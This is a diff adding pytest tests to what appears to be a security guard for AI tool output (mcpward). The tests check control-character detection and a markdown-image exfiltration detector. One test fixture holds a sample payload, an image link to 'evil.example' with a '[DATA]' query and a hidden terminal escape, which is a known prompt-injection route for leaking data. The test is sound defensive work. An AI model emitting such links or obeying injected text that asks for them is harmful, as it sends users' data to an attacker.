@@ -15,6 +15,7 @@ import pytest
 from mcpward.gateway.config import ConfigError, parse
 from mcpward.guards import output, secrets
 from mcpward.guards.redactor import (
+    CONTROL,
     EXACT_ID,
     SECRETS,
     Detector,
@@ -261,6 +262,31 @@ def test_neutralising_removes_escapes_and_invisible_characters() -> None:
     for text, expected in cases.items():
         assert needs_neutralising(encode(text)) == bool(expected[1]), text
         assert neutralise(text) == expected, text
+
+
+def test_the_scan_finds_exactly_what_needs_neutralising() -> None:
+    # The output guard relies on its one scan to report every character `needs_neutralising` sees.
+    redactor = Redactor([])
+    profile = Profile("test-control", frozenset({"control"}))
+    # Every range holding a character the neutraliser knows, with neighbours on both sides.
+    points = [*range(0x0, 0x2100), *range(0x3100, 0x3200), *range(0xFE00, 0x10000), *range(0xDFF00, 0xE0200),
+              0x1F600, 0x10FFFF]
+    for point in points:
+        piece = encode(chr(point))
+        hits = redactor.scan(piece, profile)
+        assert bool(hits) == needs_neutralising(piece), hex(point)
+        assert all(h.detector is CONTROL for h in hits)
+
+
+def test_a_control_character_inside_a_finding_is_still_reported() -> None:
+    # A marker keeps its text (only flagged), so an escape inside its span must still be found.
+    redactor = output.redactor_for(parse({}))
+    profile = Profile("test-markers-control", frozenset({"marker", "control"}))
+    data = encode("![x\x1b[8m](https://evil.example/p.png?q=[DATA]) rest")
+    hits = redactor.scan(data, profile)
+    assert [h.detector for h in hits] == [CONTROL]
+    assert [h.detector.id for h in redactor.scan(data, Profile("test-markers", frozenset({"marker"})))] == \
+        ["injection-markdown-image-exfil"]
 
 
 def test_rule_file_errors_name_the_rule() -> None:
